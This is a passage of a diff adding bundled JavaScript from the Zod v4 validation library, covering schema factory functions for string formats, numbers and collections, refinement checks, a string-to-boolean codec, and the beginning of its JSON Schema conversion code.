+        check: "string_format",
+        abort: false,
+        version: "v7",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _url(Class, params) {
+    return new Class({
+        type: "string",
+        format: "url",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function api_emoji(Class, params) {
+    return new Class({
+        type: "string",
+        format: "emoji",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _nanoid(Class, params) {
+    return new Class({
+        type: "string",
+        format: "nanoid",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+/**
+ * @deprecated CUID v1 is deprecated by its authors due to information leakage
+ * (timestamps embedded in the id). Use {@link _cuid2} instead.
+ * See https://github.com/paralleldrive/cuid.
+ */
+// @__NO_SIDE_EFFECTS__
+function _cuid(Class, params) {
+    return new Class({
+        type: "string",
+        format: "cuid",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _cuid2(Class, params) {
+    return new Class({
+        type: "string",
+        format: "cuid2",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _ulid(Class, params) {
+    return new Class({
+        type: "string",
+        format: "ulid",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _xid(Class, params) {
+    return new Class({
+        type: "string",
+        format: "xid",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _ksuid(Class, params) {
+    return new Class({
+        type: "string",
+        format: "ksuid",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _ipv4(Class, params) {
+    return new Class({
+        type: "string",
+        format: "ipv4",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _ipv6(Class, params) {
+    return new Class({
+        type: "string",
+        format: "ipv6",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _mac(Class, params) {
+    return new Class({
+        type: "string",
+        format: "mac",
+        check: "string_format",
+        abort: false,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _cidrv4(Class, params) {
+    return new Class({
+        type: "string",
+        format: "cidrv4",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _cidrv6(Class, params) {
+    return new Class({
+        type: "string",
+        format: "cidrv6",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _base64(Class, params) {
+    return new Class({
+        type: "string",
+        format: "base64",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _base64url(Class, params) {
+    return new Class({
+        type: "string",
+        format: "base64url",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _e164(Class, params) {
+    return new Class({
+        type: "string",
+        format: "e164",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _creditCard(Class, params) {
+    return new Class({
+        type: "string",
+        format: "credit_card",
+        check: "string_format",
+        abort: false,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _iban(Class, params) {
+    return new Class({
+        type: "string",
+        format: "iban",
+        check: "string_format",
+        abort: false,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _jwt(Class, params) {
+    return new Class({
+        type: "string",
+        format: "jwt",
+        check: "string_format",
+        abort: false,
+        ...normalizeParams(params),
+    });
+}
+const TimePrecision = {
+    Any: null,
+    Minute: -1,
+    Second: 0,
+    Millisecond: 3,
+    Microsecond: 6,
+};
+// @__NO_SIDE_EFFECTS__
+function _isoDateTime(Class, params) {
+    return new Class({
+        type: "string",
+        format: "datetime",
+        check: "string_format",
+        offset: false,
+        local: false,
+        precision: null,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _isoDate(Class, params) {
+    return new Class({
+        type: "string",
+        format: "date",
+        check: "string_format",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _isoTime(Class, params) {
+    return new Class({
+        type: "string",
+        format: "time",
+        check: "string_format",
+        precision: null,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _isoDuration(Class, params) {
+    return new Class({
+        type: "string",
+        format: "duration",
+        check: "string_format",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _number(Class, params) {
+    return new Class(snapshotChecks({ type: "number", checks: [], ...util.normalizeParams(params) }));
+}
+// @__NO_SIDE_EFFECTS__
+function _coercedNumber(Class, params) {
+    return new Class(snapshotChecks({ type: "number", coerce: true, checks: [], ...util.normalizeParams(params) }));
+}
+// @__NO_SIDE_EFFECTS__
+function _int(Class, params) {
+    return new Class({
+        type: "number",
+        check: "number_format",
+        abort: false,
+        format: "safeint",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _float32(Class, params) {
+    return new Class({
+        type: "number",
+        check: "number_format",
+        abort: false,
+        format: "float32",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _float64(Class, params) {
+    return new Class({
+        type: "number",
+        check: "number_format",
+        abort: false,
+        format: "float64",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _int32(Class, params) {
+    return new Class({
+        type: "number",
+        check: "number_format",
+        abort: false,
+        format: "int32",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _uint32(Class, params) {
+    return new Class({
+        type: "number",
+        check: "number_format",
+        abort: false,
+        format: "uint32",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _boolean(Class, params) {
+    return new Class({
+        type: "boolean",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _coercedBoolean(Class, params) {
+    return new Class({
+        type: "boolean",
+        coerce: true,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _bigint(Class, params) {
+    return new Class({
+        type: "bigint",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _coercedBigint(Class, params) {
+    return new Class({
+        type: "bigint",
+        coerce: true,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _int64(Class, params) {
+    return new Class({
+        type: "bigint",
+        check: "bigint_format",
+        abort: false,
+        format: "int64",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _uint64(Class, params) {
+    return new Class({
+        type: "bigint",
+        check: "bigint_format",
+        abort: false,
+        format: "uint64",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _symbol(Class, params) {
+    return new Class({
+        type: "symbol",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function api_undefined(Class, params) {
+    return new Class({
+        type: "undefined",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function api_null(Class, params) {
+    return new Class({
+        type: "null",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _any(Class) {
+    return new Class({
+        type: "any",
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _unknown(Class) {
+    return new Class({
+        type: "unknown",
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _never(Class, params) {
+    return new Class({
+        type: "never",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _void(Class, params) {
+    return new Class({
+        type: "void",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _date(Class, params) {
+    return new Class({
+        type: "date",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _coercedDate(Class, params) {
+    return new Class({
+        type: "date",
+        coerce: true,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _nan(Class, params) {
+    return new Class({
+        type: "nan",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _lt(value, params) {
+    return new $ZodCheckLessThan({
+        check: "less_than",
+        ...normalizeParams(params),
+        value,
+        inclusive: false,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _lte(value, params) {
+    return new $ZodCheckLessThan({
+        check: "less_than",
+        ...normalizeParams(params),
+        value,
+        inclusive: true,
+    });
+}
+
+// @__NO_SIDE_EFFECTS__
+function _gt(value, params) {
+    return new $ZodCheckGreaterThan({
+        check: "greater_than",
+        ...normalizeParams(params),
+        value,
+        inclusive: false,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _gte(value, params) {
+    return new $ZodCheckGreaterThan({
+        check: "greater_than",
+        ...normalizeParams(params),
+        value,
+        inclusive: true,
+    });
+}
+
+// @__NO_SIDE_EFFECTS__
+function _positive(params) {
+    return _gt(0, params);
+}
+// negative
+// @__NO_SIDE_EFFECTS__
+function _negative(params) {
+    return _lt(0, params);
+}
+// nonpositive
+// @__NO_SIDE_EFFECTS__
+function _nonpositive(params) {
+    return _lte(0, params);
+}
+// nonnegative
+// @__NO_SIDE_EFFECTS__
+function _nonnegative(params) {
+    return _gte(0, params);
+}
+// @__NO_SIDE_EFFECTS__
+function _multipleOf(value, params) {
+    return new $ZodCheckMultipleOf({
+        check: "multiple_of",
+        ...normalizeParams(params),
+        value,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _maxSize(maximum, params) {
+    return new checks.$ZodCheckMaxSize({
+        check: "max_size",
+        ...util.normalizeParams(params),
+        maximum,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _minSize(minimum, params) {
+    return new checks.$ZodCheckMinSize({
+        check: "min_size",
+        ...util.normalizeParams(params),
+        minimum,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _size(size, params) {
+    return new checks.$ZodCheckSizeEquals({
+        check: "size_equals",
+        ...util.normalizeParams(params),
+        size,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _maxLength(maximum, params) {
+    const ch = new $ZodCheckMaxLength({
+        check: "max_length",
+        ...normalizeParams(params),
+        maximum,
+    });
+    return ch;
+}
+// @__NO_SIDE_EFFECTS__
+function _minLength(minimum, params) {
+    return new $ZodCheckMinLength({
+        check: "min_length",
+        ...normalizeParams(params),
+        minimum,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _length(length, params) {
+    return new $ZodCheckLengthEquals({
+        check: "length_equals",
+        ...normalizeParams(params),
+        length,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _regex(pattern, params) {
+    return new $ZodCheckRegex({
+        check: "string_format",
+        format: "regex",
+        ...normalizeParams(params),
+        pattern,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _lowercase(params) {
+    return new $ZodCheckLowerCase({
+        check: "string_format",
+        format: "lowercase",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _uppercase(params) {
+    return new $ZodCheckUpperCase({
+        check: "string_format",
+        format: "uppercase",
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _includes(includes, params) {
+    return new $ZodCheckIncludes({
+        check: "string_format",
+        format: "includes",
+        ...normalizeParams(params),
+        includes,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _startsWith(prefix, params) {
+    return new $ZodCheckStartsWith({
+        check: "string_format",
+        format: "starts_with",
+        ...normalizeParams(params),
+        prefix,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _endsWith(suffix, params) {
+    return new $ZodCheckEndsWith({
+        check: "string_format",
+        format: "ends_with",
+        ...normalizeParams(params),
+        suffix,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _property(property, schema, params) {
+    return new checks.$ZodCheckProperty({
+        check: "property",
+        property,
+        schema,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _properties(shape, params) {
+    return new $ZodCheckProperties({
+        check: "properties",
+        shape,
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _mime(types, params) {
+    return new checks.$ZodCheckMimeType({
+        check: "mime_type",
+        mime: types,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _overwrite(tx) {
+    return new $ZodCheckOverwrite({
+        check: "overwrite",
+        tx,
+    });
+}
+// normalize
+// @__NO_SIDE_EFFECTS__
+function _normalize(form) {
+    return _overwrite((input) => input.normalize(form));
+}
+// trim
+// @__NO_SIDE_EFFECTS__
+function _trim() {
+    return _overwrite((input) => input.trim());
+}
+// toLowerCase
+// @__NO_SIDE_EFFECTS__
+function _toLowerCase() {
+    return _overwrite((input) => input.toLowerCase());
+}
+// toUpperCase
+// @__NO_SIDE_EFFECTS__
+function _toUpperCase() {
+    return _overwrite((input) => input.toUpperCase());
+}
+// slugify
+// @__NO_SIDE_EFFECTS__
+function _slugify() {
+    return _overwrite((input) => slugify(input));
+}
+// @__NO_SIDE_EFFECTS__
+function _array(Class, element, params) {
+    return new Class({
+        type: "array",
+        element,
+        // get element() {
+        //   return element;
+        // },
+        ...normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _union(Class, options, params) {
+    return new Class({
+        type: "union",
+        options,
+        ...util.normalizeParams(params),
+    });
+}
+function _xor(Class, options, params) {
+    return new Class({
+        type: "union",
+        options,
+        inclusive: false,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _discriminatedUnion(Class, discriminator, options, params) {
+    return new Class({
+        type: "union",
+        options: options,
+        discriminator,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _intersection(Class, left, right) {
+    return new Class({
+        type: "intersection",
+        left,
+        right,
+    });
+}
+// export function _tuple(
+//   Class: util.SchemaClass<schemas.$ZodTuple>,
+//   items: [],
+//   params?: string | $ZodTupleParams
+// ): schemas.$ZodTuple<[], null>;
+// @__NO_SIDE_EFFECTS__
+function _tuple(Class, items, _paramsOrRest, _params) {
+    const hasRest = _paramsOrRest instanceof schemas.$ZodType;
+    const params = hasRest ? _params : _paramsOrRest;
+    const rest = hasRest ? _paramsOrRest : null;
+    return new Class({
+        type: "tuple",
+        items,
+        rest,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _record(Class, keyType, valueType, params) {
+    return new Class({
+        type: "record",
+        keyType,
+        valueType,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _map(Class, keyType, valueType, params) {
+    return new Class({
+        type: "map",
+        keyType,
+        valueType,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _set(Class, valueType, params) {
+    return new Class({
+        type: "set",
+        valueType,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _enum(Class, values, params) {
+    const entries = Array.isArray(values) ? Object.fromEntries(values.map((v) => [v, v])) : values;
+    // if (Array.isArray(values)) {
+    //   for (const value of values) {
+    //     entries[value] = value;
+    //   }
+    // } else {
+    //   Object.assign(entries, values);
+    // }
+    // const entries: util.EnumLike = {};
+    // for (const val of values) {
+    //   entries[val] = val;
+    // }
+    return new Class({
+        type: "enum",
+        entries,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+/** @deprecated This API has been merged into `z.enum()`. Use `z.enum()` instead.
+ *
+ * ```ts
+ * enum Colors { red, green, blue }
+ * z.enum(Colors);
+ * ```
+ */
+function _nativeEnum(Class, entries, params) {
+    return new Class({
+        type: "enum",
+        entries,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _literal(Class, value, params) {
+    return new Class({
+        type: "literal",
+        values: Array.isArray(value) ? value : [value],
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _file(Class, params) {
+    return new Class({
+        type: "file",
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _transform(Class, fn) {
+    return new Class({
+        type: "transform",
+        transform: fn,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _optional(Class, innerType) {
+    return new Class({
+        type: "optional",
+        innerType,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _nullable(Class, innerType) {
+    return new Class({
+        type: "nullable",
+        innerType,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _default(Class, innerType, defaultValue) {
+    return new Class({
+        type: "default",
+        innerType,
+        get defaultValue() {
+            return typeof defaultValue === "function" ? defaultValue() : util.shallowClone(defaultValue);
+        },
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _nonoptional(Class, innerType, params) {
+    return new Class({
+        type: "nonoptional",
+        innerType,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _success(Class, innerType) {
+    return new Class({
+        type: "success",
+        innerType,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _catch(Class, innerType, catchValue) {
+    return new Class({
+        type: "catch",
+        innerType,
+        catchValue: (typeof catchValue === "function" ? catchValue : util.constantCatch(catchValue)),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _pipe(Class, in_, out) {
+    return new Class({
+        type: "pipe",
+        in: in_,
+        out,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _readonly(Class, innerType) {
+    return new Class({
+        type: "readonly",
+        innerType,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _templateLiteral(Class, parts, params) {
+    return new Class({
+        type: "template_literal",
+        parts,
+        ...util.normalizeParams(params),
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _lazy(Class, getter) {
+    return new Class({
+        type: "lazy",
+        getter,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _promise(Class, innerType) {
+    return new Class({
+        type: "promise",
+        innerType,
+    });
+}
+// @__NO_SIDE_EFFECTS__
+function _custom(Class, fn, _params) {
+    const norm = util.normalizeParams(_params);
+    norm.abort ?? (norm.abort = true); // default to abort:false
+    const schema = new Class({
+        type: "custom",
+        check: "custom",
+        fn: fn,
+        ...norm,
+    });
+    return schema;
+}
+// same as _custom but defaults to abort:false
+// @__NO_SIDE_EFFECTS__
+function _refine(Class, fn, _params) {
+    const schema = new Class({
+        type: "custom",
+        check: "custom",
+        fn: fn,
+        ...normalizeParams(_params),
+    });
+    return schema;
+}
+// @__NO_SIDE_EFFECTS__
+function _superRefine(fn, params) {
+    const ch = _check((payload) => {
+        payload.addIssue = (issue) => {
+            if (typeof issue === "string") {
+                payload.issues.push(util_issue(issue, payload.value, ch._zod.def));
+            }
+            else {
+                // for Zod 3 backwards compatibility
+                const _issue = issue;
+                if (_issue.fatal)
+                    _issue.continue = false;
+                _issue.code ?? (_issue.code = "custom");
+                if (!("input" in _issue))
+                    _issue.input = payload.value;
+                _issue.inst ?? (_issue.inst = ch);
+                _issue.continue ?? (_issue.continue = !ch._zod.def.abort); // abort is always undefined, so this is always true...
+                payload.issues.push(util_issue(_issue));
+            }
+        };
+        return fn(payload.value, payload);
+    }, params);
+    return ch;
+}
+// @__NO_SIDE_EFFECTS__
+function _check(fn, params) {
+    const ch = new $ZodCheck({
+        check: "custom",
+        ...normalizeParams(params),
+    });
+    ch._zod.check = fn;
+    return ch;
+}
+// @__NO_SIDE_EFFECTS__
+function describe(description) {
+    const ch = new $ZodCheck({ check: "describe" });
+    ch._zod.onattach = [
+        (inst) => {
+            const existing = globalRegistry.get(inst) ?? {};
+            globalRegistry.add(inst, { ...existing, description });
+        },
+    ];
+    ch._zod.check = () => { }; // no-op check
+    return ch;
+}
+// @__NO_SIDE_EFFECTS__
+function meta(metadata) {
+    const ch = new $ZodCheck({ check: "meta" });
+    ch._zod.onattach = [
+        (inst) => {
+            const existing = globalRegistry.get(inst) ?? {};
+            globalRegistry.add(inst, { ...existing, ...metadata });
+        },
+    ];
+    ch._zod.check = () => { }; // no-op check
+    return ch;
+}
+// @__NO_SIDE_EFFECTS__
+function _stringbool(Classes, _params) {
+    const params = util.normalizeParams(_params);
+    let truthyArray = params.truthy ?? ["true", "1", "yes", "on", "y", "enabled"];
+    let falsyArray = params.falsy ?? ["false", "0", "no", "off", "n", "disabled"];
+    if (params.case !== "sensitive") {
+        truthyArray = truthyArray.map((v) => (typeof v === "string" ? v.toLowerCase() : v));
+        falsyArray = falsyArray.map((v) => (typeof v === "string" ? v.toLowerCase() : v));
+    }
+    const truthySet = new Set(truthyArray);
+    const falsySet = new Set(falsyArray);
+    const _Codec = Classes.Codec ?? schemas.$ZodCodec;
+    const _Boolean = Classes.Boolean ?? schemas.$ZodBoolean;
+    const _String = Classes.String ?? schemas.$ZodString;
+    const stringSchema = new _String({ type: "string", error: params.error });
+    const booleanSchema = new _Boolean({ type: "boolean", error: params.error });
+    const codec = new _Codec({
+        type: "pipe",
+        in: stringSchema,
+        out: booleanSchema,
+        transform: ((input, payload) => {
+            let data = input;
+            if (params.case !== "sensitive")
+                data = data.toLowerCase();
+            if (truthySet.has(data)) {
+                return true;
+            }
+            else if (falsySet.has(data)) {
+                return false;
+            }
+            else {
+                payload.issues.push({
+                    code: "invalid_value",
+                    expected: "stringbool",
+                    values: [...truthySet, ...falsySet],
+                    input: payload.value,
+                    inst: codec,
+                    continue: false,
+                });
+                return {};
+            }
+        }),
+        reverseTransform: ((input, _payload) => {
+            if (input === true) {
+                return truthyArray[0] || "true";
+            }
+            else {
+                return falsyArray[0] || "false";
+            }
+        }),
+        error: params.error,
+    });
+    codec._zod.bag.truthy = truthyArray;
+    codec._zod.bag.falsy = falsyArray;
+    codec._zod.bag.case = params.case ?? "insensitive";
+    return codec;
+}
+// @__NO_SIDE_EFFECTS__
+function _stringFormat(Class, format, fnOrRegex, _params = {}) {
+    const params = util.normalizeParams(_params);
+    const def = {
+        check: "string_format",
+        type: "string",
+        format,
+        fn: typeof fnOrRegex === "function" ? fnOrRegex : (val) => fnOrRegex.test(val),
+        ...params,
+    };
+    if (fnOrRegex instanceof RegExp) {
+        def.pattern = fnOrRegex;
+    }
+    const inst = new Class(def);
+    return inst;
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/to-json-schema.js
+
+
+function assignProps(target, ...sources) {
+    for (const source of sources) {
+        for (const key of Reflect.ownKeys(source)) {
+            if (Object.prototype.propertyIsEnumerable.call(source, key)) {
+                util_assignProp(target, key, source[key]);
+            }
+        }
+    }
+    return target;
+}
+// function initializeContext<T extends schemas.$ZodType>(inputs: JSONSchemaGeneratorParams<T>): ToJSONSchemaContext<T> {
+//   return {
+//     processor: inputs.processor,
+//     metadataRegistry: inputs.metadata ?? globalRegistry,
+//     target: inputs.target ?? "draft-2020-12",
+//     unrepresentable: inputs.unrepresentable ?? "throw",
+//   };
+// }
+function to_json_schema_initializeContext(params) {
+    // Normalize target: convert old non-hyphenated versions to hyphenated versions
+    let target = params?.target ?? "draft-2020-12";
+    if (target === "draft-4")
+        target = "draft-04";
+    if (target === "draft-7")
+        target = "draft-07";
+    return {
+        processors: params.processors ?? {},
+        metadataRegistry: params?.metadata ?? globalRegistry,
+        target,
+        unrepresentable: params?.unrepresentable ?? "throw",
+        override: params?.override ?? (() => { }),
+        io: params?.io ?? "output",
+        counter: 0,
+        seen: new Map(),
+        sharedDefsExtractedFor: undefined,
+        sharedEmitDoneFor: undefined,
+        cycles: params?.cycles ?? "ref",
+        reused: params?.reused ?? "inline",
+        intersections: [],
+        deferred: [],
+        external: params?.external ?? undefined,
+    };
+}
+/**
+ * Applies the `unrepresentable` setting at a site that has no JSON Schema equivalent. Throws
+ * `message` unless the setting (or the handler's return value) says otherwise. Returns `true` if a
+ * custom JSON Schema was written into `json`, in which case the caller must not write its own.
+ */
+function handleUnrepresentable(schema, ctx, json, params, message) {
+    const result = typeof ctx.unrepresentable === "function"
+        ? ctx.unrepresentable({ zodSchema: schema, path: params.path, message })
+        : ctx.unrepresentable;
+    if (result === "any")
+        return false;
+    if (result === undefined || result === "throw")
+        throw new Error(message);
+    Object.assign(json, result);
+    return true;
+}
+// never rename this back to `process`: bundler polyfills inject a top-level `const process` that a lexical declaration of the same name collides with (#6397)
+function to_json_schema_processSchema(schema, ctx, _params = { path: [], schemaPath: [] }) {
+    var _a;
+    const def = schema._zod.def;
+    // check for schema in seens
+    const seen = ctx.seen.get(schema);
+    if (seen) {
+        seen.count++;
+        // check if cycle
+        const isCycle = _params.schemaPath.includes(schema);
+        if (isCycle) {
+            seen.cycle = _params.path;
+        }
+        return seen.schema;
+    }
+    // initialize
+    const result = { schema: {}, count: 1, cycle: undefined, path: _params.path };
+    ctx.seen.set(schema, result);
+    ctx.sharedDefsExtractedFor = undefined;
+    ctx.sharedEmitDoneFor = undefined;
+    // custom method overrides default behavior
+    const overrideSchema = schema._zod.toJSONSchema?.();
+    if (overrideSchema) {
+        result.schema = overrideSchema;
+    }
+    else {
+        const params = {
+            ..._params,
+            schemaPath: [..._params.schemaPath, schema],
+            path: _params.path,
+        };
+        if (schema._zod.processJSONSchema) {
+            schema._zod.processJSONSchema(ctx, result.schema, params);
+        }
+        else {
+            const _json = result.schema;
+            const processor = ctx.processors[def.type];
+            if (!processor) {
+                throw new Error(`[toJSONSchema]: Non-representable type encountered: ${def.type}`);
+            }
+            processor(schema, ctx, _json, params);
+        }
+        const parent = schema._zod.parent;
+        if (parent) {
+            // Also set ref if processor didn't (for inheritance)
+            if (!result.ref)
+                result.ref = parent;
+            to_json_schema_processSchema(parent, ctx, params);
+            ctx.seen.get(parent).isParent = true;
+        }
+    }
+    // metadata
+    const meta = ctx.metadataRegistry.get(schema);
+    if (meta)
+        assignProps(result.schema, meta);
+    if (ctx.io === "input" && isTransforming(schema)) {
+        // examples/defaults only apply to output type of pipe
+        delete result.schema.examples;
+        delete result.schema.default;
+    }
+    // set prefault as default
+    if (ctx.io === "input" && "_prefault" in result.schema)
+        (_a = result.schema).default ?? (_a.default = result.schema._prefault);
+    delete result.schema._prefault;
+    // pulling fresh from ctx.seen in case it was overwritten
+    const _result = ctx.seen.get(schema);
+    return _result.schema;
+}
+/** @deprecated Renamed to `processSchema`. An export alias declares no binding, so it is safe to keep. */
+
+// Escape a reference token for use in a JSON Pointer fragment (RFC 6901): `~` becomes `~0` and `/` becomes `~1`. The `~` replacement must run first.
+function encodeJSONPointerSegment(segment) {
+    return segment.replace(/~/g, "~0").replace(/\//g, "~1");
+}
+function to_json_schema_extractDefs(ctx, schema
+// params: EmitParams
+) {
+    // iterate over seen map;
+    const root = ctx.seen.get(schema);
+    if (!root)
+        throw new Error("Unprocessed schema. This is a bug in Zod.");
+    // With `external` set, every registered schema resolves through the external branch of `makeURI`, so the root branch below produces the same ref the external branch would — this pass is identical whichever schema it is called with, and only needs to run once.
+    if (ctx.external && ctx.sharedDefsExtractedFor === ctx.external)
+        return;
+    // Track ids to detect duplicates across different schemas
+    const idToSchema = new Map();
+    for (const entry of ctx.seen.entries()) {
+        const id = ctx.metadataRegistry.get(entry[0])?.id;
+        if (id) {
+            const existing = idToSchema.get(id);
+            if (existing && existing !== entry[0]) {
+                throw new Error(`Duplicate schema id "${id}" detected during JSON Schema conversion. Two different schemas cannot share the same id when converted together.`);
+            }
+            idToSchema.set(id, entry[0]);
+        }
+    }
+    // returns a ref to the schema defId will be empty if the ref points to an external schema (or #)
+    const makeURI = (entry) => {
+        // comparing the seen objects because sometimes multiple schemas map to the same seen object. e.g. lazy
+        // external is configured
+        const defsSegment = ctx.target === "draft-2020-12" ? "$defs" : "definitions";
+        if (ctx.external) {
+            const externalId = ctx.external.registry.get(entry[0])?.id; // ?? "__shared";// `__schema${ctx.counter++}`;
+            // check if schema is in the external registry
+            const uriGenerator = ctx.external.uri ?? ((id) => id);
+            if (externalId) {
+                return { ref: uriGenerator(externalId) };
+            }
+            // otherwise, add to __shared
+            const id = entry[1].defId ?? entry[1].schema.id ?? `schema${ctx.counter++}`;
+            entry[1].defId = id; // set defId so it will be reused if needed
+            return { defId: id, ref: `${uriGenerator("__shared")}#/${defsSegment}/${encodeJSONPointerSegment(id)}` };
+        }
+        const uriPrefix = `#`;
+        const defUriPrefix = `${uriPrefix}/${defsSegment}/`;
+        // an id-less root has nowhere to be extracted to, so it stays inline and self-references as `#`
+        if (entry[1] === root && !entry[1].schema.id) {
+            return { ref: uriPrefix };
+        }
+        // self-contained schema
+        const defId = entry[1].schema.id ?? `__schema${ctx.counter++}`;
+        return { defId, ref: defUriPrefix + encodeJSONPointerSegment(defId) };
+    };
+    // stored cached version in `def` property remove all properties, set $ref
+    const extractToDef = (entry) => {
+        // if the schema is already a reference, do not extract it
+        if (entry[1].schema.$ref) {
+            return;
+        }
+        const seen = entry[1];
+        const { ref, defId } = makeURI(entry);
+        seen.def = { ...seen.schema };
+        // defId won't be set if the schema is a reference to an external schema or if the schema is the root schema
+        if (defId)
+            seen.defId = defId;
+        // wipe away all properties except $ref
+        const schema = seen.schema;
+        for (const key in schema) {
+            delete schema[key];
+        }
+        schema.$ref = ref;
+    };
+    // throw on cycles
